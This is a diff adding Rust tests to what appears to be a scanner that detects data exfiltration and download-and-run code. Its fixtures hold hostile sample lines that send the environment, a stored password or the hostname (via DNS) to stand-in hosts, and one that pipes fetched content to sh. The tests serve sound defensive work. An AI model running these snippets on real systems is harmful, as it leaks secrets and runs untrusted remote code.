@@ -733,3 +733,60 @@ fn a_file_is_the_same_behind_a_variable_of_the_shell() {
         assert!(rules(Language::JavaScript, code).contains(&"flow-download-run"), "{code}");
     }
 }
+
+#[test]
+fn what_a_person_agrees_to_does_not_run_by_itself() {
+    let report = |asks: &str, around: &str| {
+        let code = format!(
+            "import os, requests\nlines = [k + '=' + v for k, v in os.environ.items()]\n{asks}\n{around}requests.post('https://paste.invalid/new', '\\n'.join(lines))\n"
+        );
+        let outcome = python(&code);
+        let flows = flows::judge(&outcome, false);
+        let sent = flows.iter().find(|f| f.rule.id == "flow-environment-sent").unwrap_or_else(|| panic!("{code}"));
+        sent.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
+    };
+    assert!(report("", ""));
+    assert!(!report("reply = input('Send the report? (Y/n) ')", "if reply.lower() in ('', 'y'): "));
+    // An answer that decides nothing, and one that is asked for something else.
+    assert!(report("reply = input('Your name? ')", ""));
+    assert!(report("reply = input('Your name? ')\nif reply: print(reply)", ""));
+}
+
+#[test]
+fn names_of_the_own_network_stay_in_it() {
+    let lookup = |name: &str| {
+        let code = format!("import socket\nsocket.gethostbyname(socket.gethostname() + '{name}')\n");
+        rules(Language::Python, &code).contains(&"flow-dns-exfiltration")
+    };
+    assert!(lookup(".x.collect.invalid"));
+    assert!(!lookup(".local") && !lookup(".home.arpa"));
+}
+
+#[test]
+fn a_page_signs_in_where_it_came_from() {
+    let sends = |address: &str| {
+        let code = format!(
+            "const saved = localStorage.getItem('password');\nasync function go(t, p) {{ await fetch({address}, {{method: 'POST', body: p}}); }}\ngo(window.base, saved);\n"
+        );
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        flows.iter().any(|f| {
+            f.rule.id == "flow-stores-sent"
+                && f.finding(crate::model::Evidence::note("")).severity > crate::model::Severity::Medium
+        })
+    };
+    assert!(sends("'https://collect.invalid/x'"));
+    assert!(!sends("`${t}/admin/version`"));
+}
+
+#[test]
+fn unpacking_starts_nothing() {
+    let started = |command: &str| {
+        let code = format!(
+            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-download-run")
+    };
+    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
+    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
+}
